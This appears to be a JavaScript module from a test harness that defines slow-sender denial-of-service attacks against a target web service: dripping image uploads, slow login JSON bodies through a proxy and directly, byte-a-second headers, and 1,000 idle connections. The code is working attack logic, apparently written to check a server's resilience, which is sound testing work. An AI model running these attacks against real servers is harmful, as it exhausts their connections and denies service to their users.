// @ts-check
import { Counts } from '../wire/counts.mjs';
import { headOf, unfinishedForm } from '../wire/http-text.mjs';
import { closeAll, pause, Wire } from '../wire/sockets.mjs';
import { addressOf } from '../wire/addresses.mjs';
import { directAddress, times } from './attack.mjs';

/** @typedef {import('./attack.mjs').Attack} Attack */
/** @typedef {import('./attack.mjs').HostileMember} HostileMember */
/** @typedef {import('./attack.mjs').Target} Target */

/** @type {Attack[]} */
export const slowSenders = [
  {
    name: 'dripping uploads',
    item: '3',
    isShort: true,
    members: 2,
    seconds: 15,
    about: 'two members begin 60 uploads each and send a byte every two seconds',
    run: (target, signal) =>
      drip(target, signal, {
        every: 2000,
        heads: target.members.flatMap((member) => Array(60).fill(uploadOf(member))),
      }),
  },
  {
    name: 'dripping JSON through the proxy',
    item: '4',
    isShort: true,
    seconds: 15,
    about: '500 sign-ins of one address whose bodies come a byte a second',
    run: (target, signal) =>
      drip(target, signal, {
        every: 1000,
        heads: Array(500).fill(signInOf(addressOf(target.network, 0))),
      }),
  },
  {
    name: 'dripping JSON, directly',
    item: '4',
    seconds: 15,
    about: 'the same from one address of its own, without a proxy before it',
    run: (target, signal) =>
      drip(target, signal, {
        every: 1000,
        heads: Array(500).fill(signInOf()),
        localAddress: directAddress,
      }),
  },
  {
    name: 'dripping headers',
    item: '4',
    seconds: 15,
    about: '500 connections of one address send their headers a byte a second',
    run: (target, signal) =>
      drip(target, signal, {
        every: 1000,
        heads: Array(500).fill('GET / HTTP/1.1\r\nHost: lodge.example\r\nX-Slow: '),
        localAddress: directAddress,
      }),
  },
  {
    name: 'idle connections',
    item: '4',
    isShort: true,
    seconds: 15,
    about: '1,000 connections of one address that send nothing',
    run: (target, signal) =>
      drip(target, signal, {
        every: 60_000,
        heads: Array(1000).fill(''),
        localAddress: directAddress,
      }),
  },
];

/** @param {HostileMember} member */
function uploadOf({ address, cookie }) {
  const headers = { 'Content-Type': unfinishedForm.type, 'Content-Length': 1_000_000 };
  const head = headOf({ method: 'POST', path: '/api/upload-image', address, cookie, headers });
  return head + unfinishedForm.start;
}

/** @param {string} [address] */
function signInOf(address) {
  const headers = { 'Content-Type': 'application/json', 'Content-Length': 1000 };
  return headOf({ method: 'POST', path: '/api/login', address, headers });
}

/**
 * Opens a connection for each head and then sends a byte on all of them, again and again.
 * @param {Target} target
 * @param {AbortSignal} signal
 * @param {{ every: number, heads: string[], localAddress?: string }} options every: milliseconds
 */
async function drip(target, signal, { every, heads, localAddress }) {
  const counts = new Counts();
  const wires = times(heads.length, () => new Wire(target, { localAddress }));
  wires.forEach((wire, index) => wire.write(heads[index]));
  for (await pause(every, signal); !signal.aborted; await pause(every, signal)) {
    for (const wire of wires) wire.write(' ');
  }
  await closeAll(wires, counts);
  return counts;
}
